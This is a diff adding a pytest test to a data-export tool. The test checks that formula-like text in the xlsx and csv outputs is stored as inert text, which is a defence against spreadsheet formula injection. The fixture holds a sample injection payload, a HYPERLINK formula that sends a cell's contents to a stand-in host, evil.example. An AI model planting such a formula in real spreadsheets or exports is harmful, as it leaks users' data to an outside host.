@@ -123,3 +123,26 @@ def test_files_honour_the_umask(tmp_path, umask, mode):
     assert {path.name: oct(path.stat().st_mode & 0o777) for path in written} == {
         path.name: oct(mode) for path in written
     }
+
+
+def test_text_that_looks_like_a_formula_is_data_in_both_files(tmp_path, monkeypatch):
+    # What `zhili validate` refuses in free text could still come from a quote of the source: the files never run it.
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http"&":"&"//evil.example/?q="&A1,"GDP")'
+    loaded = zhili_data.load_figures()
+
+    def figures(report):
+        frame = loaded.copy()
+        frame.loc[0, "indicator"], frame.loc[1, "note"] = formula, "@SUM(1+1)"
+        return frame
+
+    monkeypatch.setattr(export_module, "load_figures", figures)
+    export_module.export(tmp_path)
+    book = load_workbook(tmp_path / "figures.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert book["figures"]["D2"].value == formula and book["figures"]["D2"].data_type == "s"
+    written = pd.read_csv(tmp_path / "figures.csv", dtype=str, keep_default_na=False)
+    assert written.loc[0, "indicator"] == "'" + formula and written.loc[1, "note"] == "'@SUM(1+1)"
+    assert not any(str(v).startswith(("=", "+", "@")) for v in written.to_numpy().ravel())
